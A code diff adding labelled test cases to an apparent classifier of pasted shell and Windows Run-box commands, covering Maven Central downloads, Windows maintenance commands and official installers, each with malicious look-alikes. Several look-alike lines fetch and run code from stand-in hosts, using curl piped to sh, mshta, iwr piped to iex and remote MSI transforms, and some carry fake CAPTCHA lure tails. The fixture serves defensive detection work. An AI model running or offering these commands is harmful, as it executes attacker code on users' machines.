@@ -26,6 +26,20 @@ Principles:
 - `console-relative-fetch`: a console snippet fetching a literal path of the site itself and
   an unrelated eval on the same line. Look-alikes: the fetched text itself evaluated (from the
   site's own path too: its users' uploads live there), another site, a computed address.
+- `maven-central-publisher`: a Maven Central address (repo1.maven.org/maven2/<group>/...)
+  belongs to the publisher its group names, which Sonatype verifies (io.quarkus is quarkus.io's,
+  io.github.<user> is that forge account's): a project's own page vouches for its own group, as
+  for its own site (JBang told to trust a project's group, a jar fetched and run). Look-alikes:
+  another publisher's group, a page that is not the project's, a group under a two-part suffix
+  that names no one, plain HTTP, a stranger's script beside it.
+- `run-box-refresh`: Windows' own maintenance commands that refresh this computer from the
+  sources it already has (gpupdate /force, w32tm /resync, ipconfig /flushdns), alone or after
+  cmd /c or /k, from an IT wiki or typed. Look-alikes: a switch naming a computer or a source,
+  logging off, dropping the network, a second command, a fake check's tail, a hidden console.
+- `run-box-official-installer`: a vendor's official installer (trust list) written by a page
+  for the Run box is a warning as when typed, not a block. Look-alikes: the same from a fake
+  check page (its command is its lure's), a transform or a patch fetched beside it, a silent
+  install with a fake check's tail, a hidden window, a page about something else (a film).
 - `run-box-offer-help`: Windows Remote Assistance on the helper's side (`msra /offerra`, with a
   computer's name, `msra /expert`), typed: nobody is let onto this computer. Look-alikes: the
   switches that invite a stranger (/novice, /email, /saveasfile, /geteasyhelp), a share, a
@@ -227,6 +241,110 @@ def relative_fetches(book: Book) -> None:
         book.add("relative-fetch-lookalike", text, "malicious", "js", CONSOLE)
 
 
+# -- Maven Central's verified groups ---------------------------------------------------------------
+
+MAVEN = [
+    ("https://github.com/quillworks/widget", "curl -Ls https://sh.jbang.dev | bash -s - trust add https://repo1.maven.org/maven2/io/github/quillworks/widget-cli/"),
+    ("https://github.com/kestrel-io/kestrel", "curl -Ls https://sh.jbang.dev | bash -s - trust add https://repo1.maven.org/maven2/io/kestrel/kestrel-cli/\ncurl -Ls https://sh.jbang.dev | bash -s - app install kestrel@kestrel-io"),
+    ("https://github.com/tarnwick/tarnfmt", "curl -LO https://repo1.maven.org/maven2/dev/tarnwick/tarnfmt/1.4.0/tarnfmt-1.4.0-all.jar && java -jar tarnfmt-1.4.0-all.jar --replace Main.java"),
+    ("https://github.com/quillworks/widget", "wget https://repo1.maven.org/maven2/io/github/quillworks/widget/2.0/widget-2.0.jar && java -jar widget-2.0.jar"),
+    ("https://tarnwick.dev/docs/install", "curl -LO https://repo.maven.apache.org/maven2/dev/tarnwick/tarnfmt/1.4.0/tarnfmt-1.4.0-all.jar && java -jar tarnfmt-1.4.0-all.jar"),
+    ("https://gitlab.com/brindle/brindle-cli", "curl -fLO https://repo1.maven.org/maven2/io/gitlab/brindle/brindle-cli/0.9/brindle-cli-0.9.jar && java -jar brindle-cli-0.9.jar --help"),
+    ("https://github.com/loamworks/loam", "curl -Ls https://sh.jbang.dev | bash -s - trust add https://repo1.maven.org/maven2/org/loamworks/"),
+    ("https://loamworks.org/guide/cli", "curl -LO https://repo1.maven.org/maven2/org/loamworks/loam-cli/3.1/loam-cli-3.1.jar && java -jar loam-cli-3.1.jar init"),
+    ("https://github.com/widgetco-uk/widget", "curl -LO https://repo1.maven.org/maven2/uk/co/widgetco/widget/1.0/widget-1.0.jar && java -jar widget-1.0.jar"),
+    ("https://github.com/kestrel-io/kestrel#installation", "curl -Ls https://sh.jbang.dev | bash -s - trust add https://repo1.maven.org/maven2/io/kestrel/"),
+]  # fmt: skip
+MAVEN_LOOKALIKES = [
+    ("https://github.com/someone/tarnwick-notes", "curl -Ls https://sh.jbang.dev | bash -s - trust add https://repo1.maven.org/maven2/io/kestrel/kestrel-cli/"),
+    ("https://www.java-fix.test/verify", "curl -Ls https://sh.jbang.dev | bash -s - trust add https://repo1.maven.org/maven2/io/kestrel/kestrel-cli/"),
+    ("https://github.com/quillworks/widget", "curl -Ls https://sh.jbang.dev | bash -s - trust add https://repo1.maven.org/maven2/io/github/someone-else/widget-cli/"),
+    ("https://github.com/quillworks/widget", "curl -Ls https://sh.jbang.dev | bash -s - trust add http://repo1.maven.org/maven2/io/github/quillworks/widget-cli/"),
+    ("https://github.com/quillworks/widget", "curl -Ls https://sh.jbang.dev | bash -s - https://cdn.umbra-stage.test/Fix.java"),
+    ("https://github.com/quillworks/widget", "curl -Ls https://sh.jbang.dev | bash -s - trust add https://repo1.maven.org/maven2/io/kestrel/kestrel-cli/"),
+    ("https://github.com/co-uk/widget", "curl -Ls https://sh.jbang.dev | bash -s - trust add https://repo1.maven.org/maven2/uk/co/"),
+    ("https://github.com/quillworks/widget", "curl -Ls https://sh.jbang.dev | bash -s - trust add https://repo1.maven.org.umbra-stage.test/maven2/io/github/quillworks/"),
+    ("https://github.com/quillworks/widget", "curl -Ls https://sh.jbang.dev | bash -s - trust add https://repo1.maven.org/maven2/io/github/quillworks/widget-cli/ # I am not a robot - Verification ID: 2231"),
+    ("https://github.com/quillworks/widget", "curl -Ls https://sh.jbang.dev | bash -s - trust add https://repo1.maven.org/maven2/io/github/quillworks/widget-cli/ && curl -s https://203.0.113.7/x | sh"),
+]  # fmt: skip
+
+
+def maven(book: Book) -> None:
+    for page, text in MAVEN:
+        book.add("maven-central-publisher", text, "not_flagged", "any", TERMINAL, page)
+    for page, text in MAVEN_LOOKALIKES:
+        book.add("maven-central-lookalike", text, "flagged", "any", TERMINAL, page)
+
+
+# -- the Run box: maintenance commands and official installers ----------------------------------
+
+WIKI = "https://wiki.corp.example/it/windows/maintenance"
+REFRESH = [
+    "cmd /c gpupdate /force", "cmd /c w32tm /resync /force", "gpupdate /force", "GPUPDATE /FORCE",
+    "gpupdate /target:computer /force", "gpupdate /target:user", "cmd /k gpupdate /force /wait:0",
+    "cmd.exe /c w32tm /resync", "w32tm /resync /nowait", "w32tm /resync /rediscover",
+    "cmd /c ipconfig /flushdns", "IPConfig /FlushDNS", "CMD /K IPCONFIG /FLUSHDNS",
+]  # fmt: skip
+REFRESH_LOOKALIKES = [
+    "cmd /c gpupdate /force & calc", "cmd /c gpupdate /force && mshta https://cdn.umbra-stage.test/a.hta",
+    "cmd /c w32tm /config /manualpeerlist:198.51.100.9 /syncfromflags:manual /update",
+    "cmd /c w32tm /resync /computer:203.0.113.4", "cmd /c gpupdate /logoff", "cmd /c gpupdate /boot",
+    "cmd /c ipconfig /release", "cmd /c gpupdate /force /force", "cmd /c \"gpupdate /force\"",
+    "cmd /c gpupdate /target:https://cdn.umbra-stage.test/x",
+    "cmd /c w32tm /resync # I am not a robot - reCAPTCHA Verification ID: 3341",
+    "conhost --headless cmd /c gpupdate /force", "cmd /c start /min gpupdate /force",
+    "powershell -c gpupdate /force; iwr https://cdn.umbra-stage.test/a | iex",
+    "cmd /c gpupdate /force\nmshta https://cdn.umbra-stage.test/a.hta",
+]  # fmt: skip
+AWS_DOCS = "https://docs.aws.amazon.com/cli/latest/userguide/getting-started-install.html"
+OFFICIAL = [
+    (AWS_DOCS, "msiexec.exe /i https://awscli.amazonaws.com/AWSCLIV2.msi"),
+    (AWS_DOCS, "msiexec /i https://awscli.amazonaws.com/AWSCLIV2.msi"),
+    ("https://www.tarnwick.example/blog/aws-setup", "msiexec.exe /i https://awscli.amazonaws.com/AWSCLIV2.msi"),
+    ("https://docs.astral.sh/uv/getting-started/installation/", 'powershell -NoProfile -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"'),
+    ("https://bun.sh/docs/installation", 'powershell -c "irm bun.sh/install.ps1 | iex"'),
+    ("https://scoop.sh/", "powershell -c \"irm get.scoop.sh | iex\""),
+    ("https://deno.com/", 'powershell -c "irm https://deno.land/install.ps1 | iex"'),
+    ("https://stackoverflow.com/questions/70000002/install-aws-cli", "msiexec.exe /i https://awscli.amazonaws.com/AWSCLIV2.msi"),
+    ("https://ohmyposh.dev/docs/installation/windows", 'powershell -c "irm https://ohmyposh.dev/install.ps1 | iex"'),
+    (AWS_DOCS, "msiexec.exe /i https://awscli.amazonaws.com/AWSCLIV2-2.15.0.msi"),
+]  # fmt: skip
+OFFICIAL_LOOKALIKES = [
+    "msiexec.exe /i https://awscli.amazonaws.com/AWSCLIV2.msi TRANSFORMS=https://cdn.umbra-stage.test/x.mst",
+    "msiexec /i https://awscli.amazonaws.com/AWSCLIV2.msi PATCH=https://cdn.umbra-stage.test/x.msp",
+    "msiexec.exe /i https://awscli.amazonaws.com/AWSCLIV2.msi TRANSFORMS=\\\\198.51.100.4\\s\\x.mst",
+    "msiexec.exe /i https://awscli.amazonaws.com/AWSCLIV2.msi /qn # I am not a robot - Verification ID: 5512",
+    'powershell -w hidden -c "irm https://astral.sh/uv/install.ps1 | iex"',
+    "msiexec.exe /i https://awscli.amazonaws.com.umbra-stage.test/AWSCLIV2.msi",
+    "msiexec.exe /i https://awscli.amazonaws.com@cdn.umbra-stage.test/AWSCLIV2.msi",
+    'powershell -c "irm https://astral.sh/uv/install.ps1 | iex; irm https://cdn.umbra-stage.test/p | iex"',
+    "msiexec.exe /i https://awscli.amazonaws.com/AWSCLIV2.msi & mshta https://cdn.umbra-stage.test/a.hta",
+    "msiexec.exe /i http://awscli.amazonaws.com/AWSCLIV2.msi",
+]  # fmt: skip
+CHECK_PAGE = "https://verify-human.umbra-stage.test/captcha"
+OFF_TOPIC = "https://free-movies.umbra-stage.test/watch/8812"
+
+
+def run_box_refresh(book: Book) -> None:
+    for i, text in enumerate(REFRESH):
+        book.add("run-box-refresh", text, "not_flagged", "windows", RUN, WIKI if i % 3 else None)
+    for text in REFRESH[:4]:
+        book.add("run-box-refresh", text, "not_flagged", "windows", RUN, CHECK_PAGE)
+    for text in REFRESH_LOOKALIKES:
+        book.add("run-box-refresh-lookalike", text, "malicious", "windows", RUN, WIKI)
+        book.add("run-box-refresh-lookalike", text, "flagged", "windows", RUN)
+    for page, text in OFFICIAL:
+        book.add("run-box-official-installer", text, "suspicious", "windows", RUN, page)
+    for text in OFFICIAL_LOOKALIKES:
+        book.add("run-box-official-lookalike", text, "malicious", "windows", RUN, AWS_DOCS)
+    # a fake check page's command is its lure's, whatever it runs; so is a page about
+    # something else handing out an installer for the Run box
+    for _, text in OFFICIAL[:6]:
+        book.add("run-box-official-lookalike", text, "malicious", "windows", RUN, CHECK_PAGE)
+    for _, text in OFFICIAL[:4]:
+        book.add("run-box-official-lookalike", text, "malicious", "windows", RUN, OFF_TOPIC)
+
+
 # -- Remote Assistance on the helper's side -----------------------------------------------------
 
 OFFER_HELP = [
@@ -298,7 +416,8 @@ def jbang(book: Book) -> None:
             TERMINAL,
             "https://www.java-update-check.test/verify",
         )
-    book.add("jbang-run-box", JBANG[0][1], "malicious", "windows", RUN, JBANG[0][0])
+    # an official installer a page writes for the Run box: a warning, as typed (run-box-official)
+    book.add("jbang-run-box", JBANG[0][1], "suspicious", "windows", RUN, JBANG[0][0])
 
 
 # -- sentences that name a pipe -------------------------------------------------------------------
@@ -396,6 +515,8 @@ def build() -> list[dict[str, str]]:
     language_letters(book)
     relative_fetches(book)
     offer_help(book)
+    maven(book)
+    run_box_refresh(book)
     jbang(book)
     phrase_pipes(book)
     write_ups(book)
